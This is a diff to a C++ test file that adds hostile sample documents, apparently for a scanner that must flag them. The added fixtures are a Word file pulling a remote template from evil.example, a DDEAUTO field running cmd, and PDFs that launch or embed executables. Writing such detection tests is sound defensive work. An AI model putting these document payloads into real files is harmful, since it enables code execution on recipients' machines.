@@ -55,6 +55,21 @@ std::vector<HostileFile> hostile_files()
   files.push_back({"macro.docx", docx_saying({"a"}, {{"word/vbaProject.bin", "x"}}), "macro"});
   files.push_back({"entite.docx",
                    docx_saying({"a"}, {{"word/header1.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}}), "DOCTYPE"});
+  files.push_back(
+      {"modele.docx",
+       docx_saying({"a"}, {{"word/_rels/settings.xml.rels",
+                            "<Relationships><Relationship Type=\"a/attachedTemplate\" TargetMode=\"External\" "
+                            "Target=\"https://evil.example/a.dotm\"/></Relationships>"}}),
+       "un modèle d’une autre machine"});
+  const std::string dde =
+      docx_saying({"a"}, {{"word/footer1.xml", "<f><fldSimple instr=\"DDEAUTO cmd &quot;/k calc&quot;\"/></f>"}});
+  files.push_back({"champ.docx", dde, "DDEAUTO"});
+  files.push_back({"champ.eml", mail_with({{"champ.docx", dde}}), "sa pièce jointe «\u00A0champ.docx\u00A0»"});
+  files.push_back(
+      {"lance.pdf", pdf_with_catalogue("/OpenAction << /S /Launch /F (calc.exe) >>"), "lance un programme"});
+  files.push_back({"joint.pdf",
+                   pdf_with_catalogue("/Names << /EmbeddedFiles << /Names [ (a) << /F (a.exe) /EF << >> >> ] >> >>"),
+                   "«\u00A0a.exe\u00A0»"});
   files.push_back({"simple.zip", "PK\x03\x04 rien", "archive"});
   files.push_back({"ancien.doc", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "ancien format"});
   files.push_back({"page.txt", "<script>alert(1)</script>", "malgré son nom"});
